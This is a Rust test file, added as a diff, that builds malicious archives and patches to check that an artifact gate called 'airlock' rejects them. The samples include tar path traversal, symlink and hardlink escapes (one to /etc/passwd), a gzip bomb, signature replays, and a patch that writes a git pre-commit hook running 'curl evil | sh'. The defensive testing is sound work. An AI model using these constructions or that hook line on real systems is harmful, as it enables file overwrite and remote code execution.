@@ -1,0 +1,611 @@
+//! The hostile-worker suite: a helper that holds a valid job token (so it signs with the job
+//! key, exactly what a compromised worker can do) drops crafted artifacts into the `file://`
+//! store, and `airlock gate` must refuse each with a specific reason, exit 4, write nothing
+//! outside the job's directory, and record the refusal in the ledger.
+
+use std::collections::BTreeSet;
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use airlock_core::digest::Sha256Digest;
+use airlock_core::dsse::{self, Statement};
+use airlock_core::format::{
+    self, ArtifactPredicate, ExitInfo, ExitKind, Packet, Timings, PACKET_FORMAT, PREDICATE_ARTIFACT,
+};
+use airlock_core::keys::{PublicKey, SigningKey};
+use airlock_core::limits::TarLimits;
+use airlock_core::tar::DeterministicTarWriter;
+use airlock_core::token::{verify_token, JobClaims};
+use airlock_tests::*;
+
+/// A submitted job and what a worker holding its token knows.
+pub struct Job {
+    pub claims: JobClaims,
+    pub key: SigningKey,
+}
+
+impl Job {
+    pub fn id(&self) -> String {
+        self.claims.job.to_string()
+    }
+}
+
+/// A trusted home with a `file://` store, a git repository, and helpers to submit and gate.
+pub struct World {
+    pub _tmp: tempfile::TempDir,
+    pub root: PathBuf,
+    pub home: PathBuf,
+    pub repo: PathBuf,
+    pub trusted: PublicKey,
+}
+
+pub const LIB_RS: &str = "pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n";
+
+impl World {
+    pub fn new() -> World {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().canonicalize().unwrap();
+        let home = init_home(&root);
+        let repo = root.join("repo");
+        make_repo(
+            &repo,
+            &[
+                ("src/lib.rs", LIB_RS.as_bytes()),
+                ("README.md", b"# sample\n"),
+                (".github/workflows/ci.yml", b"on: push\n"),
+                ("run.sh", b"#!/bin/sh\necho hi\n"),
+            ],
+        );
+        let trusted = airlock_core::keys::load_public_key(&home.join("trusted.pub")).unwrap();
+        World {
+            _tmp: tmp,
+            root,
+            home,
+            repo,
+            trusted,
+        }
+    }
+
+    /// `airlock submit --json`, then the token verified with the trusted public key.
+    pub fn submit(&self) -> Job {
+        let prompt = self.root.join("prompt.txt");
+        std::fs::write(&prompt, "Add a docstring.\n").unwrap();
+        let out = run(cmd(&bin("airlock"))
+            .arg("--home")
+            .arg(&self.home)
+            .args(["submit", "--json", "--model", "model-a", "--repo"])
+            .arg(&self.repo)
+            .arg("--prompt-file")
+            .arg(&prompt));
+        assert!(out.status.success(), "submit: {}", show(&out));
+        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        let token = v["token"].as_str().unwrap();
+        let now = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs();
+        let claims = verify_token(token, &self.trusted, now)
+            .unwrap()
+            .into_inner();
+        let key = claims.job_key.signing_key().unwrap();
+        Job { claims, key }
+    }
+
+    /// Writes the drop objects of `job` exactly where the token says.
+    pub fn drop_raw(&self, job: &Job, artifact: &[u8], envelope: &[u8]) {
+        for (url, bytes) in [
+            (&job.claims.drop.artifact, artifact),
+            (&job.claims.drop.artifact_envelope, envelope),
+        ] {
+            let path = airlock_core::fileurl::file_url_to_path(url).unwrap();
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, bytes).unwrap();
+        }
+    }
+
+    /// Signs `artifact` as `job`'s (with `signer`, default the job key) and drops it.
+    pub fn drop_signed(
+        &self,
+        job: &Job,
+        artifact: &[u8],
+        packet_bytes: &[u8],
+        signer: Option<&SigningKey>,
+    ) {
+        let env = envelope(
+            job,
+            artifact,
+            packet_bytes,
+            signer.unwrap_or(&job.key),
+            None,
+        );
+        self.drop_raw(job, artifact, &env);
+    }
+
+    /// `airlock gate JOB --repo R --json` plus any extra flags.
+    pub fn gate(&self, job: &str, extra: &[&str]) -> std::process::Output {
+        run(cmd(&bin("airlock"))
+            .arg("--home")
+            .arg(&self.home)
+            .args(["gate", job, "--json", "--repo"])
+            .arg(&self.repo)
+            .args(extra))
+    }
+
+    /// The job's directory on the trusted host.
+    pub fn job_dir(&self, job: &str) -> PathBuf {
+        self.home.join("jobs").join(job)
+    }
+
+    /// The `file://` store's root.
+    pub fn store(&self) -> PathBuf {
+        self.home.join("store")
+    }
+
+    /// `(kind, stage, reason_code, decision)` of every ledger entry about `job`, verified with
+    /// the trusted key.
+    pub fn ledger(&self, job: &str) -> Vec<(String, String, String, String)> {
+        let dir = self.store().join("ledger");
+        let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
+            .map(|rd| rd.map(|e| e.unwrap().path()).collect())
+            .unwrap_or_default();
+        names.sort();
+        let mut out = Vec::new();
+        for p in names {
+            let bytes = std::fs::read(&p).unwrap();
+            let st = dsse::verify_envelope(&bytes, std::slice::from_ref(&self.trusted), 1 << 20)
+                .unwrap_or_else(|e| panic!("{}: {e}", p.display()));
+            let pred = &st.predicate;
+            if pred["job"] != job {
+                continue;
+            }
+            let ev = &pred["event"];
+            let s = |k: &str| ev[k].as_str().unwrap_or("").to_owned();
+            out.push((s("kind"), s("stage"), s("reason_code"), s("decision")));
+        }
+        out
+    }
+
+    /// Every path under the temp root except the job's own directory and the trusted side's
+    /// own store areas (ledger, records), which gating legitimately writes.
+    pub fn outside(&self, job: &str) -> BTreeSet<PathBuf> {
+        let jd = self.job_dir(job);
+        let skip = [
+            jd.as_path(),
+            &self.store().join("ledger"),
+            &self.store().join("records"),
+        ]
+        .map(|p| p.strip_prefix(&self.root).unwrap().to_owned());
+        snapshot(&self.root)
+            .into_iter()
+            // The job directory's own ancestors (`home/jobs`) are created with it.
+            .filter(|p| !skip.iter().any(|s| p.starts_with(s) || s.starts_with(p)))
+            .collect()
+    }
+}
+
+/// The DSSE envelope a worker writes: a statement over `artifact.tar.gz` naming the job, its
+/// bundle, the run and the packet digest. `predicate_override` lets a test lie in it.
+pub fn envelope(
+    job: &Job,
+    artifact: &[u8],
+    packet_bytes: &[u8],
+    signer: &SigningKey,
+    predicate_override: Option<ArtifactPredicate>,
+) -> Vec<u8> {
+    let predicate = predicate_override.unwrap_or_else(|| ArtifactPredicate {
+        job: job.claims.job.clone(),
+        run_id: RUN_ID.into(),
+        bundle_sha256: job.claims.bundle.sha256,
+        packet_sha256: Sha256Digest::of_bytes(packet_bytes),
+        partial: false,
+    });
+    let statement = Statement::new(
+        "artifact.tar.gz",
+        Sha256Digest::of_bytes(artifact),
+        PREDICATE_ARTIFACT,
+        serde_json::to_value(&predicate).unwrap(),
+    );
+    dsse::sign_statement(&statement, signer).to_json_pretty()
+}
+
+pub const RUN_ID: &str = "0123456789abcdef";
+
+/// An honest packet for `patch` (counts parsed from it when it parses).
+pub fn packet(job: &Job, patch: &[u8]) -> Packet {
+    let (files, added, removed) = airlock_core::diff::parse_patch(patch, &Default::default())
+        .map(|p| (p.files_changed(), p.lines_added(), p.lines_removed()))
+        .unwrap_or((0, 0, 0));
+    Packet {
+        format: PACKET_FORMAT.into(),
+        job: job.claims.job.clone(),
+        run_id: RUN_ID.into(),
+        bundle_sha256: job.claims.bundle.sha256,
+        model_requested: "model-a".into(),
+        model_reported: "model-a".into(),
+        tokens_in: None,
+        tokens_out: None,
+        diff_sha256: Sha256Digest::of_bytes(patch),
+        files_changed: files,
+        lines_added: added,
+        lines_removed: removed,
+        refused: Vec::new(),
+        limits_hit: Vec::new(),
+        exit: ExitInfo {
+            kind: ExitKind::Exited,
+            code: Some(0),
+        },
+        timings: Timings {
+            started_at_ms: 0,
+            finished_at_ms: 0,
+            generator_ms: 0,
+        },
+        worker_version: "hostile".into(),
+        sandbox: "namespaces+landlock+seccomp".into(),
+        egress: Vec::new(),
+        partial: false,
+    }
+}
+
+/// A well-formed artifact (deterministic writer) holding `packet` and `patch`.
+pub fn artifact(packet: &Packet, patch: &[u8]) -> (Vec<u8>, Vec<u8>) {
+    let packet_bytes = format::to_json_bytes(packet);
+    let mut w = DeterministicTarWriter::with_limits(Vec::new(), TarLimits::artifact());
+    w.append_file(
+        "packet.json",
+        false,
+        packet_bytes.len() as u64,
+        packet_bytes.as_slice(),
+    )
+    .unwrap();
+    w.append_file("patch.diff", false, patch.len() as u64, patch)
+        .unwrap();
+    (w.finish().unwrap(), packet_bytes)
+}
+
+// ---- raw tar, for archives no honest writer would produce ----
+
+fn octal(field: &mut [u8], value: u64) {
+    let digits = field.len() - 1;
+    let s = format!("{value:0digits$o}");
+    field[..digits].copy_from_slice(s.as_bytes());
+    field[digits] = 0;
+}
+
+/// A ustar header: `name` (<= 100 bytes), `size`, `typeflag`, `linkname`, `mode`.
+fn header(name: &[u8], size: u64, typeflag: u8, linkname: &[u8], mode: u64) -> [u8; 512] {
+    let mut h = [0u8; 512];
+    h[..name.len()].copy_from_slice(name);
+    octal(&mut h[100..108], mode);
+    octal(&mut h[108..116], 0);
+    octal(&mut h[116..124], 0);
+    octal(&mut h[124..136], size);
+    octal(&mut h[136..148], 0);
+    h[156] = typeflag;
+    h[157..157 + linkname.len()].copy_from_slice(linkname);
+    h[257..263].copy_from_slice(b"ustar\0");
+    h[263..265].copy_from_slice(b"00");
+    h[148..156].copy_from_slice(b"        ");
+    let sum: u64 = h.iter().map(|b| u64::from(*b)).sum();
+    let s = format!("{sum:06o}\0 ");
+    h[148..156].copy_from_slice(s.as_bytes());
+    h
+}
+
+/// One raw member: header fields and body.
+pub struct Raw<'a> {
+    pub name: &'a [u8],
+    pub typeflag: u8,
+    pub linkname: &'a [u8],
+    pub body: &'a [u8],
+}
+
+pub fn file<'a>(name: &'a str, body: &'a [u8]) -> Raw<'a> {
+    Raw {
+        name: name.as_bytes(),
+        typeflag: b'0',
+        linkname: b"",
+        body,
+    }
+}
+
+/// A gzipped tar of raw members (bodies padded, two end blocks).
+pub fn raw_tgz(members: &[Raw<'_>]) -> Vec<u8> {
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    for m in members {
+        let size = if m.typeflag == b'0' {
+            m.body.len() as u64
+        } else {
+            0
+        };
+        gz.write_all(&header(m.name, size, m.typeflag, m.linkname, 0o644))
+            .unwrap();
+        if size > 0 {
+            gz.write_all(m.body).unwrap();
+            let pad = (512 - (m.body.len() % 512)) % 512;
+            gz.write_all(&vec![0u8; pad]).unwrap();
+        }
+    }
+    gz.write_all(&[0u8; 1024]).unwrap();
+    gz.finish().unwrap()
+}
+
+/// Runs the gate on a dropped hostile artifact and checks the contract: exit 4, the expected
+/// reason code (and rule, when given) in the JSON report, nothing new outside the job's
+/// directory, none of `never` created, and a `reject` entry in the ledger.
+pub fn expect_reject(w: &World, job: &Job, code: &str, rule: Option<&str>, never: &[&Path]) {
+    let id = job.id();
+    let before = w.outside(&id);
+    let head_before = git(&w.repo, &["rev-parse", "HEAD"]);
+    let out = w.gate(&id, &["--review-branch"]);
+    assert_eq!(
+        out.status.code(),
+        Some(4),
+        "expected exit 4: {}",
+        show(&out)
+    );
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("stdout is not the JSON report ({e}): {}", show(&out)));
+    assert_eq!(report["decision"], "reject", "{report:#}");
+    let reasons = report["reasons"].as_array().unwrap();
+    let hit = reasons
+        .iter()
+        .find(|r| r["code"] == code && r["verdict"] == "reject")
+        .unwrap_or_else(|| panic!("no reject reason {code:?} in {report:#}"));
+    if let Some(rule) = rule {
+        assert_eq!(hit["rule"], rule, "{report:#}");
+    }
+    assert!(report["review_branch"].is_null(), "{report:#}");
+    let after = w.outside(&id);
+    let new: Vec<_> = after.difference(&before).collect();
+    assert!(new.is_empty(), "written outside the job directory: {new:?}");
+    for p in never {
+        assert!(!p.exists(), "{} was created", p.display());
+    }
+    assert_eq!(git(&w.repo, &["rev-parse", "HEAD"]), head_before);
+    assert!(git(&w.repo, &["branch", "--list", "airlock/*"]).is_empty());
+    let entries = w.ledger(&id);
+    assert!(
+        entries
+            .iter()
+            .any(|(kind, _, c, _)| kind == "reject" && c == code),
+        "ledger has no reject {code:?} for {id}: {entries:?}"
+    );
+}
+
+fn unique_tmp(name: &str) -> PathBuf {
+    std::env::temp_dir().join(format!("airlock-hostile-{name}-{}", std::process::id()))
+}
+
+/// A hostile archive signed with the job key (fetch's safe reader must refuse it).
+fn tar_case(members: &[Raw<'_>], rule: &str, never: &[&Path]) {
+    let w = World::new();
+    let job = w.submit();
+    let tgz = raw_tgz(members);
+    w.drop_signed(&job, &tgz, b"{}", None);
+    expect_reject(&w, &job, "artifact-tar", Some(rule), never);
+}
+
+#[test]
+fn rejects_traversal_member() {
+    tar_case(&[file("../packet.json", b"{}")], "tar.parent-dir", &[]);
+}
+
+#[test]
+fn rejects_absolute_member() {
+    let target = unique_tmp("abs");
+    let name = target.to_str().unwrap().to_owned();
+    tar_case(&[file(&name, b"pwned")], "tar.absolute", &[&target]);
+}
+
+#[test]
+fn rejects_symlink_then_file_through_it() {
+    let target = unique_tmp("via-link");
+    std::fs::create_dir_all(&target).unwrap();
+    let link = Raw {
+        name: b"packet.json",
+        typeflag: b'2',
+        linkname: target.to_str().unwrap().as_bytes(),
+        body: b"",
+    };
+    tar_case(
+        &[link, file("packet.json/pwned", b"x")],
+        "tar.link",
+        &[&target.join("pwned")],
+    );
+    std::fs::remove_dir_all(&target).unwrap();
+}
+
+#[test]
+fn rejects_hardlink() {
+    let link = Raw {
+        name: b"patch.diff",
+        typeflag: b'1',
+        linkname: b"/etc/passwd",
+        body: b"",
+    };
+    tar_case(&[link], "tar.hardlink", &[]);
+}
+
+#[test]
+fn rejects_device() {
+    let dev = Raw {
+        name: b"packet.json",
+        typeflag: b'3',
+        linkname: b"",
+        body: b"",
+    };
+    tar_case(&[dev], "tar.device", &[]);
+}
+
+#[test]
+fn rejects_fifo() {
+    let fifo = Raw {
+        name: b"patch.diff",
+        typeflag: b'6',
+        linkname: b"",
+        body: b"",
+    };
+    tar_case(&[fifo], "tar.fifo", &[]);
+}
+
+#[test]
+fn rejects_duplicate_members() {
+    tar_case(
+        &[
+            file("packet.json", b"{}"),
+            file("packet.json", b"{\"x\":1}"),
+        ],
+        "tar.duplicate",
+        &[],
+    );
+}
+
+#[test]
+fn rejects_extra_member() {
+    tar_case(
+        &[
+            file("packet.json", b"{}"),
+            file("patch.diff", b""),
+            file("run.sh", b"#!/bin/sh\n"),
+        ],
+        "tar.unlisted-member",
+        &[],
+    );
+}
+
+#[test]
+fn rejects_gzip_bomb() {
+    // 30 MiB of zeros: under the 32 MiB member cap, so the compression ratio is what stops it.
+    let zeros = vec![0u8; 30 * 1024 * 1024];
+    tar_case(
+        &[file("generator.log", &zeros), file("packet.json", b"{}")],
+        "tar.ratio",
+        &[],
+    );
+}
+
+#[test]
+fn rejects_100k_members() {
+    // The exact-name rule stops the stream at the first member past the four allowed names,
+    // long before 100 000 headers are read.
+    let names: Vec<String> = (0..100_000).map(|i| format!("m{i:06}")).collect();
+    let mut members = vec![
+        file("generator.log", b""),
+        file("packet.json", b"{}"),
+        file("patch.diff", b""),
+        file("review.md", b""),
+    ];
+    members.extend(names.iter().map(|n| file(n, b"")));
+    tar_case(&members, "tar.unlisted-member", &[]);
+}
+
+/// A well-formed, honestly signed artifact whose diff or packet is the attack.
+fn diff_case(patch: &str, code: &str, rule: Option<&str>) {
+    let w = World::new();
+    let job = w.submit();
+    let p = packet(&job, patch.as_bytes());
+    let (tgz, packet_bytes) = artifact(&p, patch.as_bytes());
+    w.drop_signed(&job, &tgz, &packet_bytes, None);
+    expect_reject(&w, &job, code, rule, &[]);
+}
+
+#[test]
+fn rejects_diff_touching_dot_git() {
+    diff_case(
+        "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n",
+        "diff-refused",
+        Some("diff.git-dir"),
+    );
+}
+
+#[test]
+fn rejects_diff_with_parent_dir() {
+    diff_case(
+        "diff --git a/../outside.txt b/../outside.txt\nnew file mode 100644\n--- /dev/null\n+++ b/../outside.txt\n@@ -0,0 +1 @@\n+x\n",
+        "diff-refused",
+        Some("diff.parent-dir"),
+    );
+}
+
+#[test]
+fn rejects_binary_patch() {
+    diff_case(
+        "diff --git a/logo.png b/logo.png\nnew file mode 100644\nGIT binary patch\nliteral 4\nLcmZ?wbhEHbL\n\n",
+        "binary-patch-refused",
+        Some("diff.binary"),
+    );
+}
+
+#[test]
+fn rejects_mode_change_to_symlink() {
+    diff_case(
+        "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 120000\n",
+        "mode-change-symlink",
+        Some("diff.mode"),
+    );
+}
+
+#[test]
+fn rejects_packet_lying_about_diff_sha() {
+    let w = World::new();
+    let job = w.submit();
+    let patch = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,3 +1,4 @@\n+/// Adds.\n pub fn add(a: i32, b: i32) -> i32 {\n     a + b\n }\n";
+    let mut p = packet(&job, patch.as_bytes());
+    p.diff_sha256 = Sha256Digest::of_bytes(b"the reviewed, harmless diff");
+    let (tgz, packet_bytes) = artifact(&p, patch.as_bytes());
+    w.drop_signed(&job, &tgz, &packet_bytes, None);
+    expect_reject(&w, &job, "diff-digest-mismatch", None, &[]);
+}
+
+#[test]
+fn rejects_artifact_signed_by_another_key() {
+    let w = World::new();
+    let job = w.submit();
+    let patch = b"";
+    let (tgz, packet_bytes) = artifact(&packet(&job, patch), patch);
+    w.drop_signed(&job, &tgz, &packet_bytes, Some(&SigningKey::generate()));
+    expect_reject(&w, &job, "artifact-signature", None, &[]);
+}
+
+#[test]
+fn rejects_another_jobs_artifact_copied_verbatim() {
+    let w = World::new();
+    let a = w.submit();
+    let b = w.submit();
+    let patch = b"";
+    let (tgz, packet_bytes) = artifact(&packet(&a, patch), patch);
+    let env_a = envelope(&a, &tgz, &packet_bytes, &a.key, None);
+    w.drop_raw(&b, &tgz, &env_a);
+    expect_reject(&w, &b, "artifact-signature", None, &[]);
+}
+
+#[test]
+fn rejects_another_jobs_artifact_resigned_with_this_jobs_key() {
+    let w = World::new();
+    let a = w.submit();
+    let b = w.submit();
+    let patch = b"";
+    let (tgz, packet_bytes) = artifact(&packet(&a, patch), patch);
+    // B's key, but the statement still describes A's job and bundle: a replay.
+    let pred = ArtifactPredicate {
+        job: a.claims.job.clone(),
+        run_id: RUN_ID.into(),
+        bundle_sha256: a.claims.bundle.sha256,
+        packet_sha256: Sha256Digest::of_bytes(&packet_bytes),
+        partial: false,
+    };
+    let env = envelope(&b, &tgz, &packet_bytes, &b.key, Some(pred));
+    w.drop_raw(&b, &tgz, &env);
+    expect_reject(&w, &b, "artifact-replay", None, &[]);
+}
+
+#[test]
+fn rejects_another_jobs_packet_under_a_statement_naming_this_job() {
+    let w = World::new();
+    let a = w.submit();
+    let b = w.submit();
+    let patch = b"";
+    let (tgz, packet_bytes) = artifact(&packet(&a, patch), patch);
+    w.drop_signed(&b, &tgz, &packet_bytes, None);
+    expect_reject(&w, &b, "packet-binding", None, &[]);
+}
